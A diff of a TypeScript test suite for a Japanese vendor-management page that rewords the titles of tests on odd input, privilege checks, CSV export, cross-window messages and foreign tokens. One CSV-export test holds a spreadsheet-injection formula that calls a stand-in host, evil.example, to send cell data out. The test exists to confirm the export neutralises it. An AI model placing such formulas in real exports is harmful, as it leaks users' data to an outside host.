@@ -142,7 +142,7 @@ test('H25 a name of five million characters is a name: the page goes on, filters
 const odd = { 'a number': 20270331, 'an object': { ja: '農園' }, 'a list': ['農園'], true: true } as const
 
 for (const [what, value] of Object.entries(odd)) {
-  test(`H26 where a text is ${what}, the page stands, can be filtered and be sorted`, async () => {
+  test(`H26 if a text is ${what}, the page stands, can be filtered and be sorted`, async () => {
     const strange = wireVendor({ id: 1, name: value, contract_number: value, member_type: { id: 1, name: value } })
     await openVendors([strange, wireVendor({ id: 2, name: '普通の農園' })])
     assert.is(heading(), 'ベンダー')
@@ -165,7 +165,7 @@ test('H27 counts that are texts, negative or no numbers are numbers on the scree
   for (const name of ['農園0', '農園7']) assert.is(button(`${name}を削除`)?.getAttribute('aria-disabled'), 'true', name)
 })
 
-test('H28 user details that hold an error, or names that are no texts, give nobody a privilege and break nothing', async () => {
+test('H28 user details that hold an error, or names that are no texts, give no privilege and break nothing', async () => {
   for (const body of [
     { errors: ['システムエラー'] },
     { results: [{ system_admin: true }] },
@@ -188,7 +188,7 @@ test('H28 user details that hold an error, or names that are no texts, give nobo
   await until(() => names().length > 0)
 })
 
-test('H29 every column of the CSV is made a text where it would be a formula, and no value adds a row or a column', async () => {
+test('H29 every column of the CSV is made a text if it would be a formula, and no value adds a row or a column', async () => {
   const formula = '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x'
   const type = { id: formula, name: formula }
   const values = {
@@ -416,7 +416,7 @@ test('H41 a configuration of ten megabytes, with keys that all objects inherit, 
 
 // ---- other windows, other tabs, other times ----
 
-test('H42 messages of other windows are nobody’s: nothing is read, done or answered', async () => {
+test('H42 messages of other windows are ignored: nothing is read, done or answered', async () => {
   const { platform } = await open('/vendors', { as: 'systemAdmin' })
   const calls = platform.requests.length
   const answers: unknown[] = []
@@ -465,7 +465,7 @@ test('H44 a token that another tab replaces by garbage ends the session here, an
   )
 })
 
-test('H45 tokens of somebody else that appear unannounced are not sent: what this page does, it does as the user it shows', async () => {
+test('H45 tokens of another user that appear unannounced are not sent: what this page does, it does as the user it shows', async () => {
   const platform = createPlatform()
   const seen: (string | null)[] = []
   const { handle } = platform
